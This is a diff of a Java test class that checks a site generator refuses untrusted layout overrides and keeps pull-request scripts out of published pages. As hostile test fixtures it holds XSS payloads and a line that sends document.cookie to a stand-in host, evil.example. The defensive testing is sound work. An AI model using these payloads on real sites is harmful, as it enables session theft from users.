@@ -37,12 +37,18 @@ class LayoutOverridesTest {
     }
 
     @Test
-    void anOverriddenLayoutCannotAddScript() throws IOException {
+    void anUntrustedLayoutCannotAddScript() throws IOException {
+        // A trusted layout is trusted code (it could drop the CSP too); the guard is that without
+        // --trust-layouts a pull request's layout is not used at all.
         h.with("templates/layouts/404.ftlh", """
                 <!DOCTYPE html><html><head><title>x</title></head><body>
                 <script>alert(1)</script><img src=x onerror=alert(1)></body></html>""");
         Hostile.Result r = h.build();
-        if (r.exit() != 0) return; // refusing the override is a fine answer too
+        assertEquals(0, r.exit(), r::toString);
+        assertEquals("""
+                templates/layouts/: warning: the catalog's layout overrides are not used: layouts write the site's HTML, so they are trusted code [P116]
+                  hint: build with --trust-layouts once they are reviewed (not in pull-request builds)""", r.err().strip());
+        assertTrue(Files.readString(h.out().resolve("404.html")).contains("Content-Security-Policy"), "the bundled 404 page");
         try (Stream<Path> pages = Files.walk(h.out()).filter(p -> p.toString().endsWith(".html"))) {
             for (Path page : pages.toList()) {
                 OutputEscapingTest.assertNoActiveContent(Jsoup.parse(page.toFile(), "UTF-8"), page);
@@ -54,7 +60,7 @@ class LayoutOverridesTest {
     void anOverriddenScriptAssetIsNotPublished() throws IOException {
         h.with("templates/layouts/assets/site.js", "fetch('https://evil.example/?' + document.cookie);\n");
         Hostile.Result r = h.build("--trust-layouts");
-        if (r.exit() != 0) return;
+        assertEquals(0, r.exit(), r::toString);
         assertTrue(!Files.readString(h.out().resolve("assets/site.js")).contains("evil.example"),
                 "a pull request's script runs on every page (CSP script-src 'self' allows it)");
     }
